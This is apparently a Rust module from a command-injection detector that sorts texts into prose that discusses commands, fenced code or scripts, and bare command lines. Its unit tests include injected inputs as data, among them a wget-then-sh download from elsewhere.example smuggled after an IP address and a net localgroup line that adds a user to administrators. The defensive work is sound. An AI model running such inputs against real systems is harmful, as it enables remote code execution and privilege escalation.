//! Texts that talk about commands: posts, tickets and notes hold command lines that nobody runs.

use crate::detect::confirm::scan::{Folded, at, is_blank, part, skip};
use crate::detect::confirm::shell::commands::{Rank, rank};

/// A text is looked at up to this many bytes.
const TEXT_BYTES_MAX: usize = 2048;
/// So many plain words in a row make a sentence.
const SENTENCE_WORDS_MIN: usize = 4;
/// Longest word of a sentence.
const WORD_BYTES_MAX: usize = 16;
/// Longest name of a language behind a fence.
const LANGUAGE_BYTES_MAX: usize = 12;

/// How a text speaks about commands.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(super) enum Talk {
    /// Not that we can tell.
    None,
    /// It has sentences or paragraphs around them.
    Sentences,
    /// It holds a fenced block of code, or is a script as a whole.
    Code,
}

impl Talk {
    /// Reads a text from `first`, where it begins.
    pub(super) fn of(text: &[u8], first: usize) -> Self {
        let text = part(text, first, text.len().min(first + TEXT_BYTES_MAX));
        if text.starts_with(b"#!/") || text.split(|byte| *byte == b'\n').any(opens_fence) {
            Self::Code
        } else if has_paragraphs(text) || text.split(|byte| *byte == b'\n').any(is_sentence) {
            Self::Sentences
        } else {
            Self::None
        }
    }
}

/// A line of three marks and the name of a language: Markdown's fence. Without the name, three backticks may as well be
/// an injected substitution.
fn opens_fence(line: &[u8]) -> bool {
    let line = line.trim_ascii();
    let Some(language) = line.strip_prefix(b"```").or_else(|| line.strip_prefix(b"~~~")) else { return false };
    (1..=LANGUAGE_BYTES_MAX).contains(&language.len()) && language.iter().all(u8::is_ascii_alphanumeric)
}

/// An empty line between two others.
fn has_paragraphs(text: &[u8]) -> bool {
    let text = text.trim_ascii();
    [&b"\n\n"[..], b"\n\r\n"].iter().any(|gap| memchr::memmem::find(text, gap).is_some())
}

/// A stretch of plain words that no command begins and no command prints.
fn is_sentence(line: &[u8]) -> bool {
    let (mut words, mut index) = (0, 0);
    while index < line.len() {
        // What a word is hung onto does not make it another one.
        let start =
            skip(line, index, line.len(), |byte| is_blank(byte) || matches!(byte, b';' | b'|' | b'&' | b'(' | b'"'));
        if part(line, index, start).iter().any(|byte| matches!(byte, b';' | b'|' | b'&')) {
            words = 0;
        }
        let end = skip(line, start, line.len(), |byte| !is_blank(byte));
        index = end.max(index + 1);
        let word = part(line, start, end);
        let word = word.strip_suffix(b".").or_else(|| word.strip_suffix(b",")).unwrap_or(word);
        let is_plain = (1..=WORD_BYTES_MAX).contains(&word.len())
            && word.iter().all(|byte| byte.is_ascii_alphabetic() || *byte == b'\'' || 0x80 <= *byte)
            && at(word, 0) != b'\'';
        let name = Folded::<32>::of(word);
        match rank(name.bytes()) {
            Some(_) if matches!(name.bytes(), b"echo" | b"printf") => return false,
            Some(Rank::Tool) => words = 0,
            Some(Rank::Word) if words == 0 => {}
            _ if is_plain => words += 1,
            _ => words = 0,
        }
        if SENTENCE_WORDS_MIN <= words {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_and_scripts_are_told_from_command_lines() {
        for (text, expected) in [
            ("it fails with this error: ls -l", Talk::Sentences),
            ("a\n\nls -la | wc -l", Talk::Sentences),
            ("```bash\ncd /srv && make -j4\n```", Talk::Code),
            ("#!/bin/sh\nset -e\ncd /srv", Talk::Code),
            ("```\ncd /srv\n```", Talk::None),
            (";echo this is only a test", Talk::None),
            ("x | net localgroup administrators eve /add", Talk::None),
            ("127.0.0.1; wget http://elsewhere.example/a -O b && sh b", Talk::None),
            ("", Talk::None),
        ] {
            assert_eq!(Talk::of(text.as_bytes(), 0), expected, "{text}");
        }
    }
}
